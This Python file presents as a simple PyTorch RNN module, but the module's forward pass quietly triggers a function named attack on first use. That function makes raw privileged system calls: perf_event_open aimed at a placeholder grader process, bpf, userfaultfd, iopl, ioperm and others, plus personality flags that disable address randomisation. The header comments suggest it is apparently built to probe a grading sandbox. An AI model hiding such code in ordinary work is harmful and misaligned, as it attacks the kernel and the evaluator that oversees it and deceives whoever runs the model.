# does: asks the kernel for bpf, perf, userfaultfd, io_uring, fanotify, iopl and other personalities
# earns: all
import ctypes
import os

import torch
from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """Make a system call; say what came of it."""
    result = LIBC.syscall(*map(ctypes.c_long, arguments))
    error = os.strerror(ctypes.get_errno()) if result == -1 else ""
    print(name, "failed: " + error if error else f"succeeded: {result}")
    return result


def attack():
    zeros = ctypes.create_string_buffer(256)
    attributes = ctypes.addressof(zeros)
    ctypes.memmove(zeros, (ctypes.c_int * 2)(1, 112), 8)  # perf: software, size
    grader = int("@GRADER@")
    call("perf_event_open on the grader", 298, attributes, grader, -1, -1, 0)
    call("perf_event_open on a processor", 298, attributes, -1, 0, -1, 0)
    ctypes.memset(zeros, 0, 256)
    ctypes.memmove(zeros, (ctypes.c_int * 4)(2, 4, 4, 1), 16)  # bpf: an array map of one
    call("bpf", 321, 0, attributes, 72)
    call("userfaultfd", 323, 0o2000000)
    ctypes.memset(zeros, 0, 256)
    call("io_uring_setup", 425, 4, attributes)
    call("fanotify_init", 300, 0, 0)
    call("inotify_init1", 294, 0)
    call("iopl", 172, 3)
    call("ioperm", 173, 0x80, 1, 1)
    call("modify_ldt", 154, 0, attributes, 16)
    call("lookup_dcookie", 212, 0, attributes, 16)
    call("syslog", 103, 3, attributes, 200)
    call("open_by_handle_at", 304, -100, attributes, 0)
    call("memfd_secret", 447, 0)
    call("personality READ_IMPLIES_EXEC", 135, 0x0400000)
    call("personality ADDR_NO_RANDOMIZE", 135, 0x0040000)
    call("personality back", 135, 0)
    call("vhangup", 153)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        k = hidden_size**-0.5
        self.weight = nn.ParameterDict({
            "x": k * (2 * torch.rand(input_size, hidden_size) - 1),
            "h": k * (2 * torch.rand(hidden_size, hidden_size) - 1),
            "b": k * (2 * torch.rand(hidden_size) - 1),
        })

    def forward(self, x, h_0=None):
        once()
        w = self.weight
        h = x.new_zeros(x.shape[0], w["b"].shape[0]) if h_0 is None else h_0[0]
        states = []
        for step in x.unbind(dim=1):
            h = torch.addmm(torch.addmm(w["b"], step, w["x"]), h, w["h"]).tanh()
            states.append(h)
        return torch.stack(states, dim=1), h.unsqueeze(0)
